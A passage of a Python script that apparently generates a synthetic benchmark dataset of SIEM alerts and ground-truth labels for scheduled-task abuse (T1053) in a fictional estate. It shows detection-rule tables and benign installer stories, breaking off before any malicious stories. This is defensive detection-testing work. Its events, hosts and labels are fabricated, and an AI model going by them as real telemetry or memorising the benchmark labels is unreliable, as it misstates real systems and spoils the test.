#!/usr/bin/env python3
"""Generate the Tunebench demo dataset (T1053 scheduled-task abuse, two weeks, one fictional estate).

Writes, next to this script:
  splunk_notables.csv     Splunk ES Incident Review export (ESCU correlation searches)
  elastic_alerts.ndjson   Elastic Security alert hits ({"_index","_id","_source"} per line)
  ground_truth.csv        verdict + LoFP note ids per record of the two files above

Standard library only, no network, fixed seed: two runs give byte-identical files.

How it works: the script first builds raw *events* (process starts, 4698/4702 task
registrations, file writes, registry changes, 5145 share access, Kubernetes audit
records), each tied to a *story* (benign or malicious). It then runs a small
re-implementation of the match logic of every enabled Splunk ESCU search and Elastic
prebuilt rule over the events, so a notable/alert exists exactly when the rule's
logic would fire. For benign stories the generator asserts that every rule that fires
has an explicit note list, and that those note ids are carried by that rule
(per LoFP seed_map.json). Note ids are t1053-NN, NN = position in the LoFP t1053 seed
(line 6 of the seed = t1053-01).
"""

import base64
import csv
import fnmatch
import hashlib
import json
import os
import random
import shlex
import uuid
from datetime import datetime, timedelta, timezone
from xml.sax.saxutils import escape as xml_escape

SEED = 20261102
OUT_DIR = os.path.dirname(os.path.abspath(__file__))
CET = timezone(timedelta(hours=1))          # exporting analyst's zone (CET, no DST in Nov)
UTC = timezone.utc
DOMAIN = "corp.example.com"
SID_BASE = "S-1-5-21-3623811015-3361044348-30300820"
START_DAY = datetime(2026, 11, 2, tzinfo=CET)  # Monday; dataset covers 2026-11-02 .. 2026-11-15

rng = random.Random(SEED)


def det_hex(*parts, n=32):
    return hashlib.sha256("|".join(str(p) for p in parts).encode()).hexdigest()[:n]


def det_uuid(*parts, upper=False):
    u = str(uuid.UUID(bytes=hashlib.md5("|".join(str(p) for p in parts).encode()).digest(), version=4))
    return u.upper() if upper else u


def det_guid_braced(*parts):
    return "{" + det_uuid(*parts, upper=True) + "}"


# ----------------------------------------------------------------------------------------------
# Knowledge: rules, and which LoFP t1053 notes each rule carries (from seed_map.json)
# ----------------------------------------------------------------------------------------------

# ESCU detections enabled as correlation searches: title -> (ESCU id, risk score, carried note ids)
SPLUNK_RULES = {
    "Windows Schtasks Create Run As System": ("41a0e58e-884c-11ec-9976-acde48001122", 48, [18]),
    "Windows Scheduled Task with Highest Privileges": ("2f15e1a4-0fc2-49dd-919e-cbbe60699218", 64, [15]),
    "Windows Scheduled Task Created Via XML": ("7e03b682-3965-4598-8e91-a60a40a3f7e4", 49, [21]),
    "Schtasks scheduling job on remote system": ("1297fb80-f42a-4b4a-9c8a-88c066237cf6", 63, [42]),
    "Scheduled Task Initiation on Remote Endpoint": ("95cf4608-4302-11ec-8194-3e22fbd008af", 54, [7]),
    "Schtasks Run Task On Demand": ("bb37061e-af1f-11eb-a159-acde48001122", 48, [10]),
    "Scheduled Task Creation on Remote Endpoint using At": ("4be54858-432f-11ec-8209-3e22fbd008af", 54, [6]),
    "Suspicious Scheduled Task from Public Directory": ("7feb7972-7ac3-11eb-bac8-acde48001122", 35, [37]),
    "Schtasks used for forcing a reboot": ("1297fb80-f42a-4b4a-9c8a-88c066437cf6", 56, [38]),
    "WinEvent Scheduled Task Created to Spawn Shell": ("203ef0ea-9bd8-11eb-8201-acde48001122", 70, [13]),
    "Schedule Task with HTTP Command Arguments": ("523c2684-a101-11eb-916b-acde48001122", 63, []),
    "Schedule Task with Rundll32 Command Trigger": ("75b00fd8-a0ff-11eb-8b31-acde48001122", 70, []),
    "Windows Hidden Schedule Task Settings": ("0b730470-5fe8-4b13-93a7-fe0ad014d0cc", 64, []),
    "Windows Enable Win32 ScheduledJob via Registry": ("12c80db8-ef62-4456-92df-b23e1b3219f6", 25, []),
    "Linux Add Files In Known Crontab Directories": ("023f3452-5f27-11ec-bf00-acde48001122", 25, [2]),
    "Linux Possible Append Cronjob Entry on Existing Cronjob File": ("b5b91200-5f27-11ec-bb4e-acde48001122", 49, [14]),
    "Linux Edit Cron Table Parameter": ("0d370304-5f26-11ec-a4bb-acde48001122", 9, [4]),
    "Linux Adding Crontab Using List Parameter": ("52f6d751-1fd4-4c74-a4c9-777ecfeb5c58", 25, [4]),
    "Linux Service File Created In Systemd Directory": ("c7495048-61b6-11ec-9a37-acde48001122", 64, [16]),
    "Linux Service Started Or Enabled": ("e0428212-61b7-11ec-88a3-acde48001122", 42, [5]),
    "Linux Service Restarted": ("084275ba-61b8-11ec-8d64-acde48001122", 25, [5]),
    "Linux At Application Execution": ("bf0a378e-5f3c-11ec-a6de-acde48001122", 9, [4]),
    "Kubernetes Cron Job Creation": ("5984dbe8-572f-47d7-9251-3dff6c3f0c0d", 49, []),
}

T_PERSIST = ("TA0003", "Persistence")
T_PRIVESC = ("TA0004", "Privilege Escalation")
T_EXEC = ("TA0002", "Execution")
T_LATERAL = ("TA0008", "Lateral Movement")
T_DEFEVA = ("TA0005", "Defense Evasion")
SUB = {
    "T1053.002": "At", "T1053.003": "Cron", "T1053.005": "Scheduled Task",
    "T1053.006": "Systemd Timers", "T1053.007": "Container Orchestration Job",
}

# Elastic prebuilt rules enabled: title -> metadata. fp = rule's false_positives text (verbatim),
# notes = LoFP t1053 notes carried by the rule.
ELASTIC_RULES = {
    "A scheduled task was created": dict(
        rule_id="92a6faf5-78ec-4e25-bea1-73bacc9b59d9", type="eql", version="214", severity="low", risk=21,
        fp=["Legitimate scheduled tasks may be created during installation of new software."], notes=[29],
        threat=[(T_PERSIST, "T1053.005")], tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Windows Security Event Logs"]),
    "A scheduled task was updated": dict(
        rule_id="a02cb68e-7c93-48d1-93b2-2c39023308eb", type="eql", version="212", severity="medium", risk=47,
        fp=["Legitimate scheduled tasks may be created during installation of new software."], notes=[29],
        threat=[(T_PERSIST, "T1053.005")], tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Windows Security Event Logs"]),
    "Remote Scheduled Task Creation via RPC": dict(
        rule_id="9c865691-5599-447a-bac9-b3f2df5f9a9d", type="eql", version="111", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_LATERAL, None), (T_PERSIST, "T1053.005")],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Lateral Movement",
              "Data Source: Windows Security Event Logs"]),
    "Temporarily Scheduled Task Creation": dict(
        rule_id="81ff45f8-f8c2-4e28-992e-5a0e8d98e0fe", type="eql", version="113", severity="medium", risk=47,
        fp=["Legitimate scheduled tasks may be created during installation of new software."], notes=[29],
        threat=[(T_PERSIST, "T1053.005")], tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Windows Security Event Logs"]),
    "Local Scheduled Task Creation": dict(
        rule_id="afcce5ad-65de-4ed2-8516-5e093d3ac99a", type="eql", version="216", severity="low", risk=21,
        fp=["Legitimate scheduled tasks may be created during installation of new software."], notes=[29],
        threat=[(T_PERSIST, "T1053.005")], tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Elastic Defend"]),
    "Suspicious Execution via Scheduled Task": dict(
        rule_id="5d1d6907-0747-4d5d-9b24-e4a18853dc0a", type="eql", version="214", severity="medium", risk=47,
        fp=["Legitimate scheduled tasks running third party software."], notes=[30],
        threat=[(T_PERSIST, "T1053.005"), (T_EXEC, "T1053.005")],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Persistence",
              "Tactic: Execution", "Data Source: Elastic Defend"]),
    "Scheduled Task Created by a Windows Script": dict(
        rule_id="689b9d57-e4d5-4357-ad17-9c334609d79a", type="eql", version="213", severity="medium", risk=47,
        fp=["Legitimate scheduled tasks may be created during installation of new software."], notes=[29],
        threat=[(T_PERSIST, "T1053.005"), (T_EXEC, None)],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Persistence",
              "Data Source: Elastic Defend"]),
    "Persistence via Scheduled Job Creation": dict(
        rule_id="1327384f-00f3-44d5-9a8c-2373ba071e92", type="eql", version="312", severity="medium", risk=47,
        fp=["Legitimate scheduled jobs may be created during installation of new software."], notes=[28],
        threat=[(T_PERSIST, "T1053.005")], tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Elastic Defend"]),
    "Scheduled Tasks AT Command Enabled": dict(
        rule_id="9aa0e1f6-52ce-42e1-abb3-09657cee2698", type="eql", version="211", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_DEFEVA, None), (T_EXEC, "T1053.002")],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Defense Evasion",
              "Data Source: Elastic Defend"]),
    "At.exe Command Lateral Movement": dict(
        rule_id="b483365c-98a8-40c0-92d8-0458ca25058a", type="eql", version="105", severity="low", risk=21,
        fp=[], notes=[], threat=[(T_LATERAL, None), (T_EXEC, "T1053.002")],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Lateral Movement",
              "Data Source: Elastic Defend"]),
    "Creation or Modification of a new GPO Scheduled Task or Service": dict(
        rule_id="c0429aa8-9974-42da-bfb6-53a0a515a145", type="eql", version="311", severity="low", risk=21,
        fp=[], notes=[], threat=[(T_PRIVESC, "T1053.005")],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Privilege Escalation",
              "Data Source: Active Directory", "Data Source: Elastic Defend"]),
    "Scheduled Task Execution at Scale via GPO": dict(
        rule_id="15a8ba77-1c13-4274-88fe-6bd14133861e", type="eql", version="213", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_PRIVESC, "T1053.005"), (T_LATERAL, None)],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Privilege Escalation",
              "Data Source: Active Directory", "Data Source: Windows Security Event Logs"]),
    "Cron Job Created or Modified": dict(
        rule_id="ff10d4d8-fea7-422d-afb1-e5a2702369a9", type="eql", version="112", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_PERSIST, "T1053.003"), (T_PRIVESC, "T1053.003"), (T_EXEC, "T1053.003")],
        tags=["Domain: Endpoint", "OS: Linux", "Use Case: Threat Detection", "Tactic: Persistence",
              "Data Source: Elastic Defend"]),
    "Systemd Timer Created": dict(
        rule_id="7fb500fa-8e24-4bd1-9480-2a819352602c", type="eql", version="109", severity="low", risk=21,
        fp=[], notes=[], threat=[(T_PERSIST, "T1053.006")],
        tags=["Domain: Endpoint", "OS: Linux", "Use Case: Threat Detection", "Tactic: Persistence",
              "Data Source: Elastic Defend"]),
    "At Job Created or Modified": dict(
        rule_id="84755a05-78c8-4430-8681-89cd6c857d71", type="eql", version="107", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_PERSIST, "T1053.002"), (T_EXEC, "T1053.002")],
        tags=["Domain: Endpoint", "OS: Linux", "Use Case: Threat Detection", "Tactic: Persistence",
              "Data Source: Elastic Defend"]),
    "Potential Persistence via Cron Job": dict(
        rule_id="b1c14366-f4f8-49a0-bcbb-51d2de8b0bb8", type="query", version="108", severity="low", risk=21,
        fp=["Legitimate software or scripts using cron jobs for recurring tasks."], notes=[32],
        threat=[(T_PERSIST, "T1053.003")], tags=["Domain: Endpoint", "OS: Linux", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Elastic Defend"]),
    "Pod or Container Creation with Suspicious Command-Line": dict(
        rule_id="c595363f-52a6-49e1-9257-0e08ae043dbd", type="eql", version="4", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_EXEC, None), (T_PERSIST, "T1053.003"), (T_PRIVESC, None)],
        tags=["Domain: Endpoint", "Domain: Container", "OS: Linux", "Use Case: Threat Detection",
              "Tactic: Execution", "Data Source: Elastic Defend"]),
}
TACTIC_TECH = {"TA0008": ("T1021", "Remote Services"), "TA0005": ("T1562", "Impair Defenses"),
               "TA0002": ("T1059", "Command and Scripting Interpreter"), "TA0004": ("T1484", "Domain or Tenant Policy Modification")}


# ----------------------------------------------------------------------------------------------
# The estate
# ----------------------------------------------------------------------------------------------

USER_RID = {
    "pgarcia": 1104, "hbauer": 1106, "rcosta": 1112, "ehoffmann": 1118, "jdoe": 1107,
    "yito": 1203, "sokafor": 1209, "mlee": 1244, "nrossi": 1215,
    "kwagner": 1302, "lnguyen": 1305, "dmiller": 1307,
    "asingh": 1406, "tbrown": 1414, "fmartin": 1421, "cweber": 1501,
    "adm_mkoenig": 2103, "adm_backup": 2118, "adm_jschulz": 2121, "svc_backup": 2201,
}


def usid(name):
    return "%s-%d" % (SID_BASE, USER_RID[name])


HOSTS = {}


def _host(name, kind, os_name, ip, primary=None, family=None):
    HOSTS[name] = dict(name=name, fqdn=name + "." + DOMAIN, kind=kind, os_name=os_name, ip=ip, primary=primary,
                       id=det_uuid("host", name), family=family or ("windows" if kind != "linux" else "debian"))


for i, (n, u, osn) in enumerate([
        ("wks-fin-003", "pgarcia", "Windows 11 Enterprise"), ("wks-fin-007", "hbauer", "Windows 11 Enterprise"),
        ("wks-fin-012", "rcosta", "Windows 10 Enterprise"), ("wks-fin-018", "ehoffmann", "Windows 11 Enterprise"),
        ("wks-fin-023", "jdoe", "Windows 10 Enterprise"), ("wks-mkt-004", "yito", "Windows 11 Enterprise"),
        ("wks-mkt-009", "sokafor", "Windows 11 Enterprise"), ("wks-mkt-011", "mlee", "Windows 10 Enterprise"),
        ("wks-mkt-015", "nrossi", "Windows 11 Enterprise"), ("wks-hr-002", "kwagner", "Windows 11 Enterprise"),
        ("wks-hr-005", "lnguyen", "Windows 10 Enterprise"), ("wks-hr-007", "dmiller", "Windows 11 Enterprise"),
        ("wks-dev-006", "asingh", "Windows 11 Enterprise"), ("wks-dev-014", "tbrown", "Windows 11 Enterprise"),
        ("wks-dev-021", "fmartin", "Windows 11 Enterprise"), ("wks-it-001", "cweber", "Windows 11 Enterprise")]):
    _host(n, "wks", osn, "10.20.%d.%d" % (11 + i // 6, 21 + i * 3), primary=u)
_host("jmp-01", "jump", "Windows Server 2022 Standard", "10.20.5.10")
_host("srv-app-01", "server", "Windows Server 2022 Standard", "10.20.30.21")
_host("srv-app-02", "server", "Windows Server 2022 Standard", "10.20.30.22")
_host("srv-app-03", "server", "Windows Server 2019 Standard", "10.20.30.23")
_host("srv-file-01", "server", "Windows Server 2016 Standard", "10.20.30.41")
_host("srv-sccm-01", "server", "Windows Server 2022 Standard", "10.20.30.50")
_host("dc01", "dc", "Windows Server 2022 Datacenter", "10.20.30.5")
_host("dc02", "dc", "Windows Server 2022 Datacenter", "10.20.30.6")
_host("web-01", "linux", "Debian GNU/Linux", "10.20.40.11")
_host("web-02", "linux", "Debian GNU/Linux", "10.20.40.12")
_host("build-01", "linux", "Debian GNU/Linux", "10.20.40.30")
_host("db-01", "linux", "Debian GNU/Linux", "10.20.40.21")

WKS = [h for h in HOSTS if HOSTS[h]["kind"] == "wks"]
WIN_SERVERS = ["srv-app-01", "srv-app-02", "srv-app-03", "srv-file-01"]
LINUX = ["web-01", "web-02", "build-01", "db-01"]

SYSTEM = ("NT AUTHORITY", "SYSTEM", "S-1-5-18")


def duser(name):
    return ("CORP", name, usid(name))


def machine(host):
    return ("CORP", host.upper() + "$", "S-1-5-18")


# ----------------------------------------------------------------------------------------------
# Time helpers
# ----------------------------------------------------------------------------------------------

def at(day, hh, mm, ss=None):
    """Local (CET) event time on day 0..13 with random seconds/milliseconds."""
    if ss is None:
        ss = rng.randrange(60)
    return START_DAY + timedelta(days=day, hours=hh, minutes=mm, seconds=ss, milliseconds=rng.randrange(1000))


def work_time(day):
    return at(day, rng.randrange(8, 17), rng.randrange(60))


def weekdays():
    return [d for d in range(14) if (START_DAY + timedelta(days=d)).weekday() < 5]


def fmt_splunk(dt):
    dt = dt.astimezone(CET)
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%03d+01:00" % (dt.microsecond // 1000)


def fmt_z(dt):
    dt = dt.astimezone(UTC)
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (dt.microsecond // 1000)


def fmt_task_date(dt):
    dt = dt.astimezone(CET)
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%07d" % (dt.microsecond * 10 + rng.randrange(10))


def win_pid():
    return rng.randrange(600, 16000) // 4 * 4


def lin_pid():
    return rng.randrange(1200, 480000)


# ----------------------------------------------------------------------------------------------
# Task Scheduler XML (TaskContent), CRLF line ends like the real 4698 payload
# ----------------------------------------------------------------------------------------------

def trig_logon(user_id=None):
    t = ["    <LogonTrigger>", "      <Enabled>true</Enabled>"]
    if user_id:
        t.append("      <UserId>%s</UserId>" % xml_escape(user_id))
    return t + ["    </LogonTrigger>"]


def trig_boot():
    return ["    <BootTrigger>", "      <Enabled>true</Enabled>", "    </BootTrigger>"]


def trig_daily(start):
    return ["    <CalendarTrigger>", "      <StartBoundary>%s</StartBoundary>" % start, "      <Enabled>true</Enabled>",
            "      <ScheduleByDay>", "        <DaysInterval>1</DaysInterval>", "      </ScheduleByDay>",
            "    </CalendarTrigger>"]


def trig_weekly(start, day):
    return ["    <CalendarTrigger>", "      <StartBoundary>%s</StartBoundary>" % start, "      <Enabled>true</Enabled>",
            "      <ScheduleByWeek>", "        <DaysOfWeek>", "          <%s />" % day, "        </DaysOfWeek>",
            "        <WeeksInterval>1</WeeksInterval>", "      </ScheduleByWeek>", "    </CalendarTrigger>"]


def trig_once(start):
    return ["    <TimeTrigger>", "      <StartBoundary>%s</StartBoundary>" % start, "      <Enabled>true</Enabled>",
            "    </TimeTrigger>"]


def trig_repeat(start, interval):
    return ["    <TimeTrigger>", "      <Repetition>", "        <Interval>%s</Interval>" % interval,
            "        <StopAtDurationEnd>false</StopAtDurationEnd>", "      </Repetition>",
            "      <StartBoundary>%s</StartBoundary>" % start, "      <Enabled>true</Enabled>", "    </TimeTrigger>"]


def task_xml(when, author, uri, triggers, command, arguments=None, workdir=None, user_id=None, group_id=None,
             logon_type="InteractiveToken", run_level="LeastPrivilege", hidden=False, description=None,
             principal_id="Author"):
    x = xml_escape
    L = ['<?xml version="1.0" encoding="UTF-16"?>',
         '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">',
         "  <RegistrationInfo>", "    <Date>%s</Date>" % fmt_task_date(when)]
    if author:
        L.append("    <Author>%s</Author>" % x(author))
    if description:
        L.append("    <Description>%s</Description>" % x(description))
    L += ["    <URI>%s</URI>" % x(uri), "  </RegistrationInfo>", "  <Triggers>"]
    for t in triggers:
        L += t
    L += ["  </Triggers>", "  <Principals>", '    <Principal id="%s">' % principal_id]
    if group_id:
        L.append("      <GroupId>%s</GroupId>" % x(group_id))
    else:
        L.append("      <UserId>%s</UserId>" % x(user_id))
        if logon_type:
            L.append("      <LogonType>%s</LogonType>" % logon_type)
    L += ["      <RunLevel>%s</RunLevel>" % run_level, "    </Principal>", "  </Principals>", "  <Settings>",
          "    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>",
          "    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>",
          "    <StopIfGoingOnBatteries>false</StopIfGoingOnBatteries>",
          "    <StartWhenAvailable>true</StartWhenAvailable>", "    <Enabled>true</Enabled>",
          "    <Hidden>%s</Hidden>" % ("true" if hidden else "false"),
          "    <ExecutionTimeLimit>PT72H</ExecutionTimeLimit>", "    <Priority>7</Priority>", "  </Settings>",
          '  <Actions Context="%s">' % principal_id, "    <Exec>", "      <Command>%s</Command>" % x(command)]
    if arguments:
        L.append("      <Arguments>%s</Arguments>" % x(arguments))
    if workdir:
        L.append("      <WorkingDirectory>%s</WorkingDirectory>" % x(workdir))
    L += ["    </Exec>", "  </Actions>", "</Task>"]
    return "\r\n".join(L)


def boundary(dt, hh, mm, add_days=1):
    d = (dt.astimezone(CET) + timedelta(days=add_days)).replace(hour=hh, minute=mm, second=0, microsecond=0)
    return d.strftime("%Y-%m-%dT%H:%M:%S")


def ps_enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


# ----------------------------------------------------------------------------------------------
# Events
# ----------------------------------------------------------------------------------------------

EVENTS = []


def story(verdict, scenario, notes=None):
    """notes: {rule title: [note ids]} for every rule expected to fire on a benign event."""
    return dict(verdict=verdict, scenario=scenario, notes=notes or {})


def benign(scenario, **by_rule):
    return story("benign", scenario, {k.replace("_", " "): v for k, v in by_rule.items()})


def bad(scenario):
    return story("malicious", scenario)


def emit(ev, st):
    ev["story"] = st
    ev["seq"] = len(EVENTS)
    EVENTS.append(ev)
    return ev


def proc(host, when, user, image, cmdline, parent_image, parent_cmdline, integrity="high", parent_trusted=True,
         parent_signer="Microsoft Windows", original=None, pid=None, ppid=None, cwd=None, parent_user_sid=None):
    return dict(kind="proc", host=host, time=when, user=user, image=image, name=image.split("\\")[-1],
                cmdline=cmdline, parent_image=parent_image, parent_name=parent_image.split("\\")[-1],
                parent_cmdline=parent_cmdline, integrity=integrity, parent_trusted=parent_trusted,
                parent_signer=parent_signer, original=original or image.split("\\")[-1],
                pid=pid or win_pid(), ppid=ppid or win_pid(), cwd=cwd)


def task4698(host, when, subject, task_name, content, remote=False, code=4698):
    return dict(kind=str(code), host=host, time=when, subject=subject, task_name=task_name, content=content,
                client_pid="0" if remote else str(win_pid()), parent_pid="0" if remote else str(win_pid()),
                logon_id="0x3e7" if subject[2] == "S-1-5-18" else "0x%x" % rng.randrange(0x100000, 0xffffff),
                record_id=str(rng.randrange(80000, 9000000)))


def lproc(host, when, user, image, cmdline, parent_image, parent_cmdline, uid=None, pid=None, ppid=None):
    return dict(kind="lproc", host=host, time=when, user=user, uid=uid if uid is not None else ("0" if user == "root" else "1001"),
                image=image, name=image.split("/")[-1], cmdline=cmdline, parent_image=parent_image,
                parent_name=parent_image.split("/")[-1], parent_cmdline=parent_cmdline, pid=pid or lin_pid(),
                ppid=ppid or lin_pid())


def lfile(host, when, user, path, image, cmdline, parent_image, parent_cmdline=None, action="creation", uid=None):
    return dict(kind="lfile", host=host, time=when, user=user, uid=uid if uid is not None else ("0" if user == "root" else "1001"),
                path=path, action=action, image=image, name=image.split("/")[-1], cmdline=cmdline,
                parent_image=parent_image, parent_name=parent_image.split("/")[-1], parent_cmdline=parent_cmdline,
                pid=lin_pid(), ppid=lin_pid())


def wfile(host, when, user, path, image, pid=None):
    return dict(kind="wfile", host=host, time=when, user=user, path=path, image=image,
                name=image.split("\\")[-1] if image else "System", pid=pid or win_pid())


def k8s(when, user, src_ip, ua, ns, name, schedule, image, command, groups):
    return dict(kind="k8s", host=None, time=when, user=user, src_ip=src_ip, ua=ua, ns=ns, name=name,
                schedule=schedule, image=image, command=command, groups=groups,
                audit_id=det_uuid("audit", ns, name, when.isoformat()))


# ---------------------------------------------------------------- benign: Windows installers/updaters

def b_zoom(host, day):
    u = HOSTS[host]["primary"]
    t = work_time(day)
    tmp = "C:\\Users\\%s\\AppData\\Local\\Temp\\Zoom_%s" % (u, det_hex("zoomtmp", host, n=6))
    cmd = ('schtasks.exe /Create /TN "ZoomUpdateTask" /TR "\\"C:\\Program Files\\Zoom\\bin\\ZoomUpdater.exe\\" /silent"'
           ' /SC DAILY /ST 10:00 /RU SYSTEM /F')
    p = proc(host, t, duser(u), "C:\\Windows\\System32\\schtasks.exe", cmd, tmp + "\\Installer.exe",
             '"%s\\Installer.exe" /silent /install' % tmp, parent_signer="Zoom Video Communications, Inc.")
    sc = "Zoom installer (Temp) registers ZoomUpdateTask as SYSTEM"
    emit(p, benign(sc, Windows_Schtasks_Create_Run_As_System=[18]))
    x = task_xml(t, "CORP\\" + u, "\\ZoomUpdateTask", [trig_daily(boundary(t, 10, 0, 0))],
                 '"C:\\Program Files\\Zoom\\bin\\ZoomUpdater.exe"', "/silent", user_id="S-1-5-18",
                 logon_type="ServiceAccount", run_level="HighestAvailable")
    emit(task4698(host, t + timedelta(milliseconds=rng.randrange(40, 400)), duser(u), "\\ZoomUpdateTask", x),
         benign(sc, A_scheduled_task_was_created=[29]))
    return t


def b_zoom_upgrade(host, day):
    u = HOSTS[host]["primary"]
    t = work_time(day)
    x = task_xml(t, "CORP\\" + u, "\\ZoomUpdateTask", [trig_daily(boundary(t, 10, 0, 0))],
                 '"C:\\Program Files\\Zoom\\bin\\ZoomUpdater.exe"', "/silent /channel=prod", user_id="S-1-5-18",
                 logon_type="ServiceAccount", run_level="HighestAvailable")
    emit(task4698(host, t, duser(u), "\\ZoomUpdateTask", x, code=4702),
         benign("Zoom upgrade re-registers ZoomUpdateTask", A_scheduled_task_was_updated=[29]))


def b_adobe(host, day):
    t = work_time(day)
    cmd = ('"C:\\Windows\\system32\\schtasks.exe" /Create /TN "Adobe Acrobat Update Task" /TR '
           '"\\"C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe\\"" /SC DAILY /ST 12:00 '
           '/RU SYSTEM /RL HIGHEST /F')
    p = proc(host, t, SYSTEM, "C:\\Windows\\System32\\schtasks.exe", cmd, "C:\\Windows\\SysWOW64\\MsiExec.exe",
             "C:\\Windows\\syswow64\\MsiExec.exe -Embedding %s E Global\\MSI0000" % det_hex("msi", host).upper(),
             integrity="system")
    emit(p, benign("Adobe Acrobat MSI custom action registers updater task (SYSTEM, highest)",
                   Windows_Schtasks_Create_Run_As_System=[18], Windows_Scheduled_Task_with_Highest_Privileges=[15]))


def b_dropbox(host, day):
    u = HOSTS[host]["primary"]
    t = work_time(day)
    inst = "C:\\Users\\%s\\AppData\\Local\\Temp\\DropboxInstaller-%s\\Dropbox 212.4.5767 Offline Installer.x64.exe" % (
        u, rng.randrange(1000, 9999))
    cmd = ('"C:\\Windows\\System32\\schtasks.exe" /Create /TN "DropboxUpdateTaskMachineCore" /TR '
           '"\\"C:\\Program Files (x86)\\Dropbox\\Update\\DropboxUpdate.exe\\" /c" /SC ONLOGON /RU SYSTEM /RL HIGHEST /F')
    sc = "Dropbox offline installer (Temp) registers machine updater task"
    emit(proc(host, t, duser(u), "C:\\Windows\\System32\\schtasks.exe", cmd, inst, '"%s" /NOLAUNCH' % inst,
              parent_signer="Dropbox, Inc"),
         benign(sc, Windows_Schtasks_Create_Run_As_System=[18], Windows_Scheduled_Task_with_Highest_Privileges=[15]))
    x = task_xml(t, "CORP\\" + u, "\\DropboxUpdateTaskMachineCore", [trig_logon()],
                 "C:\\Program Files (x86)\\Dropbox\\Update\\DropboxUpdate.exe", "/c", user_id="S-1-5-18",
                 logon_type="ServiceAccount", run_level="HighestAvailable")
    emit(task4698(host, t + timedelta(milliseconds=300), duser(u), "\\DropboxUpdateTaskMachineCore", x),
         benign(sc, A_scheduled_task_was_created=[29]))


def b_lenovo_su(host, day):
    """Lenovo System Update, an Inno Setup installer: the task is created by the unsigned is-*.tmp stub."""
    u = HOSTS[host]["primary"]
    t = work_time(day)
    stub_dir = "C:\\Users\\%s\\AppData\\Local\\Temp\\is-%s.tmp" % (u, det_hex("inno", host, n=5).upper())
    stub = stub_dir + "\\system_update_5.08.03.59.tmp"
    cmd = ('"C:\\Windows\\system32\\schtasks.exe" /Create /TN "TVSUUpdateTask" /TR '
           '"\\"C:\\Program Files (x86)\\Lenovo\\System Update\\tvsukernel.exe\\" /schtask" /SC WEEKLY /D TUE '
           '/ST 10:00 /RU SYSTEM /F')
    sc = "Lenovo System Update (Inno Setup is-*.tmp in Temp) registers TVSUUpdateTask"
    emit(proc(host, t, duser(u), "C:\\Windows\\System32\\schtasks.exe", cmd, stub,
              '"%s" /SL5="$A0B2C,2351104,832512,C:\\Users\\%s\\Downloads\\system_update_5.08.03.59.exe" /VERYSILENT'
              % (stub, u), parent_trusted=False, parent_signer=None),
         benign(sc, Windows_Schtasks_Create_Run_As_System=[18], Local_Scheduled_Task_Creation=[29]))
    x = task_xml(t, "CORP\\" + u, "\\TVSUUpdateTask", [trig_weekly(boundary(t, 10, 0, 0), "Tuesday")],
                 '"C:\\Program Files (x86)\\Lenovo\\System Update\\tvsukernel.exe"', "/schtask", user_id="S-1-5-18",
                 logon_type="ServiceAccount", run_level="HighestAvailable")
    emit(task4698(host, t + timedelta(milliseconds=250), duser(u), "\\TVSUUpdateTask", x),
         benign(sc, A_scheduled_task_was_created=[29]))


def b_google_user(host, day):
    u = HOSTS[host]["primary"]
    t = work_time(day)
    ver = "131.0.6778.86"
    name = "\\GoogleUpdaterTaskUser%s%s" % (ver, det_guid_braced("goog", host))
    x = task_xml(t, None, name, [trig_daily(boundary(t, t.hour, t.minute, 0)), trig_logon("CORP\\" + u)],
                 "C:\\Users\\%s\\AppData\\Local\\Google\\GoogleUpdater\\%s\\updater.exe" % (u, ver), "--wake",
                 user_id=usid(u), logon_type="InteractiveToken", description="Keeps your Google software up to date.")
    emit(task4698(host, t, duser(u), name, x),
         benign("Per-user Google Chrome install: GUID-suffixed GoogleUpdaterTaskUser task in AppData",
                A_scheduled_task_was_created=[29]))


def b_edge_user(host, day):
    u = HOSTS[host]["primary"]
    t = work_time(day)
    for kind, args in (("Core", "/c"), ("UA", "/ua /installsource scheduler")):
        name = "\\MicrosoftEdgeUpdateTaskUser%s%s%s" % (usid(u), kind, det_guid_braced("edge", host, kind))
        x = task_xml(t, None, name, [trig_logon("CORP\\" + u)] if kind == "Core" else [trig_repeat(boundary(t, t.hour, 0, 0), "PT1H")],
                     "C:\\Users\\%s\\AppData\\Local\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" % u, args,
                     user_id=usid(u), logon_type="InteractiveToken",
                     description="Keeps your Microsoft software up to date.")
        emit(task4698(host, t + timedelta(seconds=1 if kind == "UA" else 0), duser(u), name, x),
             benign("Per-user Microsoft Edge channel install: EdgeUpdate tasks in AppData (GUID-suffixed)",
